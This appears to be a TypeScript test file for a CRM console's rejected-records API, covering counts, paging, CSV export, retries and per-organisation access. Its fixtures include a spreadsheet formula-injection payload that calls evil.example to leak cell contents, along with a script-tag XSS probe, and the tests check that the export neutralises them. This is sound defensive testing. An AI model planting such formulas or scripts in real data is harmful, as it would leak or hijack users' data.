import { expect, test } from 'vitest';
import type { RejectedKinds, RejectedPage } from '../../../src/http/api/rejected/schemas.ts';
import type { RunPage } from '../../../src/http/api/runs/schemas.ts';
import { startConsole } from '../../support/console.ts';
import { startLoop } from '../../support/loop.ts';
import { handsOf } from '../../support/loop-crm.ts';
import { eventually, startQueueWorker } from '../../support/queue-worker.ts';

const small = { sandbox: { contacts: 6 }, pull: { objects: [] }, push: 'auto' } as const;
const formula = `=HYPERLINK("http://evil.example/?"&A1,"click")`;

/** Three people whose address is none, one of them a formula. */
async function loopWithRejects(own: AsyncDisposableStack) {
  const loop = own.use(await startLoop(small));
  const hands = handsOf(loop);
  const [first, second, third] = hands.living();
  hands.edit(first!.id, { email: formula, firstname: '<script>alert(1)</script>' });
  hands.edit(second!.id, { email: 'nobody at all' });
  hands.edit(third!.id, { email: '+1 555 0100' });
  await loop.sync();
  return { loop, hands, first: first!, second: second! };
}

test('rejections are counted by kind with a remedy, and each record is listed with what it held', async () => {
  await using own = new AsyncDisposableStack();
  const { loop, first } = await loopWithRejects(own);
  const console = own.use(await startConsole(loop.services));
  const viewer = await console.signedIn(loop.orgId, 'viewer');
  const { kinds } = (await viewer.ask('GET', '/orgs/acme/rejected')).body as RejectedKinds;
  expect(kinds).toMatchObject([
    {
      of: 'connection',
      name: 'acme-hubspot',
      object: 'contacts',
      stage: 'map',
      code: 'invalid-value',
      field: 'email',
      count: 3,
      effect: 'null',
      remedy: expect.stringMatching(/mapping/) as string,
    },
  ]);
  const query = 'name=acme-hubspot&object=contacts&stage=map&code=invalid-value&field=email';
  const page = (await viewer.ask('GET', `/orgs/acme/rejected/records?${query}&limit=2`)).body as RejectedPage;
  const rest = (await viewer.ask('GET', `/orgs/acme/rejected/records?${query}&limit=2&after=${page.next}`))
    .body as RejectedPage;
  expect([page.records.length, rest.records.length, rest.next]).toEqual([2, 1, null]);
  expect([...page.records, ...rest.records].find(({ externalId }) => externalId === String(first.id))).toMatchObject({
    field: 'email',
    value: formula,
    message: expect.stringContaining('email') as string,
    times: 1,
    leadName: expect.stringContaining('<script>') as string,
  });
  const none = await viewer.ask('GET', `/orgs/acme/rejected/records?name=acme-hubspot&field=phone`);
  expect(none.body).toEqual({ records: [], next: null });
});

test('the export is a file, and no value of it runs in a spreadsheet', async () => {
  await using own = new AsyncDisposableStack();
  const { loop } = await loopWithRejects(own);
  const console = own.use(await startConsole(loop.services));
  const viewer = await console.signedIn(loop.orgId, 'viewer');
  const { status, headers, body } = await viewer.ask('GET', '/orgs/acme/rejected/export?name=acme-hubspot');
  expect(status).toBe(200);
  expect(headers.get('content-type')).toBe('text/csv; charset=utf-8');
  expect(headers.get('content-disposition')).toMatch(/^attachment; filename="rejected-acme-hubspot-[\d-]+\.csv"$/);
  const lines = String(body).trim().split('\r\n');
  expect(lines).toHaveLength(4);
  expect(String(body)).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
  expect(String(body)).toContain(`"'+1 555 0100"`);
  expect(String(body)).not.toMatch(/(?:^|[,\n])"?[=+\-@]/);
});

test('an operator lets a worker try again, and what was mended is rejected no more', async () => {
  await using own = new AsyncDisposableStack();
  const { loop, hands, second } = await loopWithRejects(own);
  const { wake } = own.use(await startQueueWorker(loop));
  const console = own.use(await startConsole(loop.services, { wake }));
  const operator = await console.signedIn(loop.orgId, 'operator');
  hands.edit(second.id, { email: 'somebody@school.example' });
  const asked = await operator.ask('POST', '/orgs/acme/connections/acme-hubspot/rejected/retry');
  expect(asked).toMatchObject({ status: 202 });
  const run = await eventually(async () => {
    const { runs } = (await operator.ask('GET', '/orgs/acme/runs?kind=replay')).body as RunPage;
    return runs.find(({ endedAt }) => endedAt !== null);
  });
  expect(run.counts).toMatchObject({ pushed: 0, nulled: 2 });
  const { kinds } = (await operator.ask('GET', '/orgs/acme/rejected')).body as RejectedKinds;
  expect(kinds).toMatchObject([{ count: 2 }]);
});

test('rows of a source are among them', async () => {
  await using own = new AsyncDisposableStack();
  const loop = own.use(await startLoop(small));
  await loop.db.sql(
    `insert into data_sources (id, org_id, name, kind, query) values ('00000000-0000-4000-8000-0000000000aa', $1, 'warehouse', 'signups', 'select 1')`,
    [loop.orgId],
  );
  await loop.db.sql(
    `insert into source_rejects (org_id, source_id, row_hash, field, code, message, fields, first_seen_at, last_seen_at)
     values ($1, '00000000-0000-4000-8000-0000000000aa', 'x', 'employees', 'invalid', 'employees is no number',
       '{"email": "a@b.example", "employees": "@many"}', now(), now())`,
    [loop.orgId],
  );
  const console = own.use(await startConsole(loop.services));
  const viewer = await console.signedIn(loop.orgId, 'viewer');
  expect((await viewer.ask('GET', '/orgs/acme/rejected')).body).toMatchObject({
    kinds: [{ of: 'source', name: 'warehouse', object: 'signups', field: 'employees', count: 1 }],
  });
  expect((await viewer.ask('GET', '/orgs/acme/rejected/records?of=source&name=warehouse')).body).toMatchObject({
    records: [{ externalId: 'a@b.example', value: '@many' }],
  });
  const { body } = await viewer.ask('GET', '/orgs/acme/rejected/export?of=source&name=warehouse');
  expect(body).toContain(`"'@many"`);
});

test('what another organisation has rejected is not there, and a viewer retries nothing', async () => {
  await using own = new AsyncDisposableStack();
  const { loop } = await loopWithRejects(own);
  const umbrella = await loop.db.org('umbrella');
  const console = own.use(await startConsole(loop.services, { wake: async () => true }));
  const stranger = await console.signedIn(umbrella, 'admin');
  expect((await stranger.ask('GET', '/orgs/umbrella/rejected')).body).toEqual({ kinds: [] });
  for (const [method, path] of [
    ['GET', '/orgs/umbrella/rejected/records?name=acme-hubspot'],
    ['GET', '/orgs/umbrella/rejected/export?name=acme-hubspot'],
    ['POST', '/orgs/umbrella/connections/acme-hubspot/rejected/retry'],
  ] as const) {
    expect(await stranger.ask(method, path), path).toMatchObject({ status: 404, body: { code: 'connection-unknown' } });
  }
  const viewer = await console.signedIn(loop.orgId, 'viewer');
  expect(await viewer.ask('POST', '/orgs/acme/connections/acme-hubspot/rejected/retry')).toMatchObject({ status: 403 });
});
